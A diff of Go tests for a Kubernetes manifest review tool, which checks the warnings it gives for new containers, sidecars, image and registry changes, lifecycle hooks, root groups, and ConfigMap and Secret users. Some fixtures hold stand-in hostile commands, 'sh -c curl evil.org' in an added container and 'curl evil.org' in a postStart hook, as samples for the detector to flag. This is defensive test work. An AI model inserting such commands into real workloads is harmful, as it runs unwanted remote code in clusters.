@@ -15,12 +15,11 @@ func podsWith(spec string) string { return workload("apps/v1", "Deployment", spe
 
 func TestReviewTellsAllContainers(t *testing.T) {
 	const (
-		shares     = " | it shares the network and the volumes of its Pods"
-		elsewhere  = " | the image now comes from another repository"
-		unpinned   = " | its digest is removed: a tag may get another image later"
-		app        = "containers: [{name: app, image: web:1, args: [serve]}]"
-		digest     = "@sha256:0123456789012345678901234567890123456789012345678901234567890123"
-		containers = "Deployment ns/a: Pods are replaced: other containers"
+		shares    = " | it shares the network and the volumes of its Pods"
+		elsewhere = " | the image now comes from another repository"
+		unpinned  = " | its digest is removed: a tag may get another image later"
+		app       = "containers: [{name: app, image: web:1, args: [serve]}]"
+		digest    = "@sha256:0123456789012345678901234567890123456789012345678901234567890123"
 	)
 	image := func(image string) string { return podsWith("containers: [{name: app, image: " + image + "}]") }
 	field := func(fields string) string { return podsWith("containers: [{name: app, image: web:1, " + fields + "}]") }
@@ -28,20 +27,14 @@ func TestReviewTellsAllContainers(t *testing.T) {
 		name, before, after string
 		want                []string
 	}{
-		{"a new container", podsWith(app), podsWith(strings.Replace(app, "}]", "}, {name: x, image: evil, command: [sh, -c], args: [curl evil.org]}]", 1)), []string{
-			"Deployment ns/a: new container x runs image evil: sh -c curl evil.org" + shares, containers,
-		}},
-		{"a new init container", podsWith(app), podsWith(app + ", initContainers: [{name: x, image: evil}]"), []string{"Deployment ns/a: new init container x runs image evil" + shares, containers}},
-		{"a new sidecar", podsWith(app), podsWith(app + ", initContainers: [{name: x, image: evil, restartPolicy: Always}]"), []string{"Deployment ns/a: new sidecar x runs image evil" + shares, containers}},
-		{"a renamed container", podsWith(app), podsWith(strings.Replace(app, "name: app", "name: x", 1)), []string{containers, "Deployment ns/a: container x replaces container app"}},
-		{"a renamed container of another version", podsWith(app), podsWith(strings.NewReplacer("name: app", "name: x", "web:1", "web:2").Replace(app)), []string{containers, "Deployment ns/a: container x replaces container app"}},
-		{"another container", podsWith(app), podsWith("containers: [{name: x, image: evil}]"), []string{
-			"Deployment ns/a: new container x runs image evil" + shares, containers, "Deployment ns/a: container app with image web:1 is removed",
-		}},
-		{"a moved container", podsWith(strings.Replace(app, "}]", "}, {name: x, image: b:1}]", 1)), podsWith(app + ", initContainers: [{name: x, image: b:1}]"), []string{
-			containers, "Deployment ns/a: init container x replaces container x",
-		}},
-		{"a removed container", podsWith(strings.Replace(app, "}]", "}, {name: x, image: proxy}]", 1)), podsWith(app), []string{containers, "Deployment ns/a: container x with image proxy is removed"}},
+		{"a new container", podsWith(app), podsWith(strings.Replace(app, "}]", "}, {name: x, image: evil, command: [sh, -c], args: [curl evil.org]}]", 1)), []string{"Deployment ns/a: new container x runs image evil: sh -c curl evil.org" + shares, "Deployment ns/a: Pods are replaced: spec.template.spec.containers[x].args[0]: unset → curl evil.org; spec.template.spec.containers[x].command[0]: unset → sh; spec.template.spec.containers[x].command[1]: unset → -c; spec.template.spec.containers[x].image: unset → evil; spec.template.spec.containers[x].name: unset → x"}},
+		{"a new init container", podsWith(app), podsWith(app + ", initContainers: [{name: x, image: evil}]"), []string{"Deployment ns/a: new init container x runs image evil" + shares, "Deployment ns/a: Pods are replaced: spec.template.spec.initContainers[x].image: unset → evil; spec.template.spec.initContainers[x].name: unset → x"}},
+		{"a new sidecar", podsWith(app), podsWith(app + ", initContainers: [{name: x, image: evil, restartPolicy: Always}]"), []string{"Deployment ns/a: new sidecar x runs image evil" + shares, "Deployment ns/a: Pods are replaced: spec.template.spec.initContainers[x].image: unset → evil; spec.template.spec.initContainers[x].name: unset → x; spec.template.spec.initContainers[x].restartPolicy: unset → Always"}},
+		{"a renamed container", podsWith(app), podsWith(strings.Replace(app, "name: app", "name: x", 1)), []string{`Deployment ns/a: Pods are replaced: spec.template.spec.containers[app]: {"args":["serve"],"image":"web:1","name":"app"} → unset; spec.template.spec.containers[x].args[0]: unset → serve; spec.template.spec.containers[x].image: unset → web:1; spec.template.spec.containers[x].name: unset → x`}},
+		{"a renamed container of another version", podsWith(app), podsWith(strings.NewReplacer("name: app", "name: x", "web:1", "web:2").Replace(app)), []string{`Deployment ns/a: Pods are replaced: spec.template.spec.containers[app]: {"args":["serve"],"image":"web:1","name":"app"} → unset; spec.template.spec.containers[x].args[0]: unset → serve; spec.template.spec.containers[x].image: unset → web:2; spec.template.spec.containers[x].name: unset → x`}},
+		{"another container", podsWith(app), podsWith("containers: [{name: x, image: evil}]"), []string{"Deployment ns/a: new container x runs image evil" + shares, `Deployment ns/a: Pods are replaced: spec.template.spec.containers[app]: {"args":["serve"],"image":"web:1","name":"app"} → unset; spec.template.spec.containers[x].image: unset → evil; spec.template.spec.containers[x].name: unset → x`}},
+		{"a moved container", podsWith(strings.Replace(app, "}]", "}, {name: x, image: b:1}]", 1)), podsWith(app + ", initContainers: [{name: x, image: b:1}]"), []string{`Deployment ns/a: Pods are replaced: spec.template.spec.containers[x]: {"image":"b:1","name":"x"} → unset; spec.template.spec.initContainers[x].image: unset → b:1; spec.template.spec.initContainers[x].name: unset → x`}},
+		{"a removed container", podsWith(strings.Replace(app, "}]", "}, {name: x, image: proxy}]", 1)), podsWith(app), []string{`Deployment ns/a: Pods are replaced: spec.template.spec.containers[x]: {"image":"proxy","name":"x"} → unset`}},
 
 		{"another tag", image("web:1"), image("web:2"), []string{"Deployment ns/a: Pods are replaced: image web:1 → web:2"}},
 		{"another registry", image("web:1"), image("ghcr.io/x/web:1"), []string{"Deployment ns/a: container app runs image ghcr.io/x/web:1 instead of web:1" + elsewhere, "Deployment ns/a: Pods are replaced: image web:1 → ghcr.io/x/web:1"}},
@@ -51,13 +44,13 @@ func TestReviewTellsAllContainers(t *testing.T) {
 		{"a tag in place of a digest", image("web:1" + digest), image("web:1"), []string{"Deployment ns/a: container app runs image web:1 instead of web:1" + digest + unpinned, "Deployment ns/a: Pods are replaced: image web:1" + digest + " → web:1"}},
 		{"a digest in place of a tag", image("web:1"), image("web:1" + digest), []string{"Deployment ns/a: Pods are replaced: image web:1 → web:1" + digest}},
 
-		{"another command", field("command: [a]"), field("command: [b, c]"), []string{"Deployment ns/a: Pods are replaced: another command", "Deployment ns/a: container app runs b c instead of a"}},
-		{"arguments in place of a command", field("command: [a]"), field("args: [a]"), []string{"Deployment ns/a: Pods are replaced: another command, another args", "Deployment ns/a: container app runs the command of its image with arguments a instead of a"}},
-		{"a command of its own", field("args: [a]"), field("command: [a]"), []string{"Deployment ns/a: Pods are replaced: another command, another args", "Deployment ns/a: container app runs a instead of the command of its image with arguments a"}},
-		{"a hook", field("stdin: true"), field("stdin: true, lifecycle: {postStart: {exec: {command: [curl, evil.org]}}}"), []string{"Deployment ns/a: Pods are replaced: another lifecycle", "Deployment ns/a: container app runs curl evil.org in its postStart"}},
-		{"another probe", field("livenessProbe: {exec: {command: [a]}}"), field("livenessProbe: {exec: {command: [b]}}"), []string{"Deployment ns/a: Pods are replaced: another livenessProbe", "Deployment ns/a: container app runs b in its livenessProbe"}},
-		{"a probe without a command", field("livenessProbe: {tcpSocket: {port: 1}}"), field("livenessProbe: {tcpSocket: {port: 2}}"), []string{"Deployment ns/a: Pods are replaced: another livenessProbe"}},
-		{"shared processes", podsWith(app), podsWith(app + ", shareProcessNamespace: true"), []string{"Deployment ns/a: Pods set shareProcessNamespace | each container can read and signal the processes of the others", "Deployment ns/a: Pods are replaced: another shareProcessNamespace"}},
+		{"another command", field("command: [a]"), field("command: [b, c]"), []string{"Deployment ns/a: Pods are replaced: spec.template.spec.containers[app].command[0]: a → unset; spec.template.spec.containers[app].command[0]: unset → b; spec.template.spec.containers[app].command[1]: unset → c"}},
+		{"arguments in place of a command", field("command: [a]"), field("args: [a]"), []string{`Deployment ns/a: Pods are replaced: spec.template.spec.containers[app].args[0]: unset → a; spec.template.spec.containers[app].command: ["a"] → unset`}},
+		{"a command of its own", field("args: [a]"), field("command: [a]"), []string{`Deployment ns/a: Pods are replaced: spec.template.spec.containers[app].args: ["a"] → unset; spec.template.spec.containers[app].command[0]: unset → a`}},
+		{"a hook", field("stdin: true"), field("stdin: true, lifecycle: {postStart: {exec: {command: [curl, evil.org]}}}"), []string{"Deployment ns/a: Pods are replaced: spec.template.spec.containers[app].lifecycle.postStart.exec.command[0]: unset → curl; spec.template.spec.containers[app].lifecycle.postStart.exec.command[1]: unset → evil.org"}},
+		{"another probe", field("livenessProbe: {exec: {command: [a]}}"), field("livenessProbe: {exec: {command: [b]}}"), []string{"Deployment ns/a: Pods are replaced: spec.template.spec.containers[app].livenessProbe.exec.command[0]: a → b"}},
+		{"a probe without a command", field("livenessProbe: {tcpSocket: {port: 1}}"), field("livenessProbe: {tcpSocket: {port: 2}}"), []string{"Deployment ns/a: Pods are replaced: spec.template.spec.containers[app].livenessProbe.tcpSocket.port: 1 → 2"}},
+		{"shared processes", podsWith(app), podsWith(app + ", shareProcessNamespace: true"), []string{"Deployment ns/a: sets spec.template.spec.shareProcessNamespace: true | each container can read and signal the processes of the others", "Deployment ns/a: Pods are replaced: spec.template.spec.shareProcessNamespace: unset → true"}},
 		{"ephemeral containers", workload("v1", "Pod", app), workload("v1", "Pod", app+", ephemeralContainers: [{name: x, image: evil}]"), []string{
 			"Pod ns/a: new ephemeral container x runs image evil" + shares,
 		}},
@@ -181,6 +174,21 @@ func TestPrivilegesAreReportedForTemplatesOfAnyKind(t *testing.T) {
 	}
 }
 
+// A value of 0 puts Pods in the group root.
+func TestRootGroupsAreARisk(t *testing.T) {
+	const c = "containers: [{name: c, image: i, securityContext: {runAsGroup: "
+	for fields, want := range map[string]string{
+		c + "1}}]": "",
+		c + "0}}]": "spec.template.spec.containers[c].securityContext.runAsGroup: 0",
+		"securityContext: {fsGroup: 0, supplementalGroups: [1, 0]}, " + c + "2}}]": "spec.template.spec.securityContext.fsGroup: 0; spec.template.spec.securityContext.supplementalGroups[1]: 0",
+	} {
+		got := strings.Join(reviewLines(t, podsWith(c+"2}}]"), podsWith(fields)), "\n")
+		if line := "Deployment ns/a: sets " + want + " | its Pods can read and change files of the group root"; (want != "") != strings.Contains(got, line) || want == "" && strings.Contains(got, "root") {
+			t.Errorf("%s:\n%s\nwant\n%s", fields, got, line)
+		}
+	}
+}
+
 // A variable in a field does not hide the other fields.
 func TestUnreadableTemplatesAreARisk(t *testing.T) {
 	const unreadable = "Deployment ns/a: its Pod template cannot be read because of "
@@ -209,9 +217,8 @@ func TestUnreadableTemplatesAreARisk(t *testing.T) {
 
 func TestReviewNamesUsersOfConfigMapsAndSecrets(t *testing.T) {
 	const (
-		live = " | running Pods get it without a rollout that stops at the first failure"
-		late = " | Pods of different content run side by side until all have restarted"
-		see  = "Pods of Deployment ns/a "
+		live = " | no rollout stops at the first failure: running Pods get mounted content at once, and other content when they restart"
+		used = "it is used by the Pods of Deployment ns/a"
 	)
 	object := func(kind, value string) string {
 		return fmt.Sprintf("{apiVersion: v1, kind: %s, metadata: {name: m, namespace: ns}, data: {k: %s}}", kind, value)
@@ -222,35 +229,37 @@ func TestReviewNamesUsersOfConfigMapsAndSecrets(t *testing.T) {
 		return "containers: [{name: c, image: i, volumeMounts: [{name: v, mountPath: /m, " + mount + "}]}], volumes: [{name: v, "
 	}
 	env := func(fields string) string { return "containers: [{name: c, image: i, " + fields + "}]" }
-	for _, test := range []struct{ kind, fields, want string }{
-		{"ConfigMap", c, ""},
-		{"ConfigMap", mount("") + "configMap: {name: m}}]", "mount it and see changes without a restart" + live},
-		{"Secret", mount("") + "secret: {secretName: m}}]", "mount it and see changes without a restart" + live},
-		{"ConfigMap", mount("") + "secret: {secretName: m}}]", ""},
-		{"ConfigMap", mount("") + "projected: {sources: [{configMap: {name: m}}]}}]", "mount it and see changes without a restart" + live},
-		{"ConfigMap", mount("subPath: k") + "configMap: {name: m}}]", "mount it by subPath and see changes only after a restart" + late},
-		{"ConfigMap", env("envFrom: [{configMapRef: {name: m}}]"), "read it into their environment and see changes only after a restart" + late},
-		{"Secret", env("env: [{name: K, valueFrom: {secretKeyRef: {name: m, key: k}}}]"), "read it into their environment and see changes only after a restart" + late},
-		{"Secret", c + ", imagePullSecrets: [{name: m}]", "pull images with it"},
-		{"ConfigMap", strings.Replace(mount(""), "image: i", "image: i, envFrom: [{configMapRef: {name: m}}]", 1) + "configMap: {name: m}}]", "mount it and see changes without a restart; Pods of Deployment ns/a read it into their environment and see changes only after a restart" + live},
+	for _, test := range []struct {
+		kind, fields string
+		isUsed       bool
+	}{
+		{"ConfigMap", c, false},
+		{"ConfigMap", mount("") + "configMap: {name: m}}]", true},
+		{"Secret", mount("") + "secret: {secretName: m}}]", true},
+		{"ConfigMap", mount("") + "secret: {secretName: m}}]", false},
+		{"ConfigMap", mount("") + "projected: {sources: [{configMap: {name: m}}]}}]", true},
+		{"ConfigMap", mount("subPath: k") + "configMap: {name: m}}]", true},
+		{"ConfigMap", env("envFrom: [{configMapRef: {name: m}}]"), true},
+		{"Secret", env("env: [{name: K, valueFrom: {secretKeyRef: {name: m, key: k}}}]"), true},
+		{"Secret", c + ", imagePullSecrets: [{name: m}]", false},
+		{"ConfigMap", strings.Replace(mount(""), "image: i", "image: i, envFrom: [{configMapRef: {name: m}}]", 1) + "configMap: {name: m}}]", true},
 	} {
 		var want []string
-		if test.want != "" {
-			want = []string{test.kind + " ns/m: changes: " + see + test.want}
+		if test.isUsed {
+			want = []string{test.kind + " ns/m: changes: " + used + live}
 		}
 		if got := reviewLines(t, object(test.kind, "YQ==")+user(test.fields), object(test.kind, "Yg==")+user(test.fields)); !slices.Equal(got, want) {
 			t.Errorf("%s:\n%q\nwant\n%q", test.fields, got, want)
 		}
 	}
-	const reads = "read it into their environment and see changes only after a restart"
 	needed, optional := user(env("envFrom: [{configMapRef: {name: m}}]")), user(env("envFrom: [{configMapRef: {name: m, optional: true}}]"))
 	m, other := object("ConfigMap", "a"), "{apiVersion: v1, kind: ConfigMap, metadata: {name: other, namespace: ns}}"
 	for _, test := range []struct{ name, before, after, want string }{
-		{"removed", m + needed, needed[5:], "ConfigMap ns/m: is removed: " + see + reads + " | Pods do not start without it"},
-		{"removed and optional", m + optional, optional[5:], "ConfigMap ns/m: is removed: " + see + reads},
+		{"removed", m + needed, needed[5:], "ConfigMap ns/m: is removed: " + used + " | Pods do not start without it"},
+		{"removed and optional", m + optional, optional[5:], "ConfigMap ns/m: is removed: " + used},
 		{"removed without users", m, other, ""},
-		{"added", other, other + "\n---\n" + m + needed, "ConfigMap ns/m: is added: " + see + reads},
-		{"added for running Pods", optional[5:], m + optional, "ConfigMap ns/m: is added: " + see + reads + late},
+		{"added", other, other + "\n---\n" + m + needed, "ConfigMap ns/m: is added: " + used},
+		{"added for running Pods", optional[5:], m + optional, "ConfigMap ns/m: is added: " + used + live},
 		{"another label", m + needed, strings.Replace(m, "name: m,", "name: m, labels: {a: b},", 1) + needed, ""},
 	} {
 		got := slices.DeleteFunc(reviewLines(t, test.before, test.after), func(line string) bool { return !strings.HasPrefix(line, "ConfigMap ns/m") })
@@ -269,7 +278,7 @@ func TestRulesClaimOnlyFieldsThatTheyTell(t *testing.T) {
 		want          []string
 	}{
 		{podsWith(image("a:1")), podsWith(image("a:2")), []string{"spec.template.spec.containers[c].image"}},
-		{podsWith(image(long + ":1")), podsWith(image(long + ":2")), nil},
+		{podsWith(image(long + ":1")), podsWith(image(long + ":2")), []string{"spec.template.spec.containers[c].image"}},
 		{fill(deployment), fill(deployment, "REPLICAS=3"), []string{"spec.replicas"}},
 		{fill(deployment), unsized, nil},
 		{fill(deployment), fill(deployment, "REPLICAS=0", "IMAGE=i:2"), []string{"spec.replicas"}},
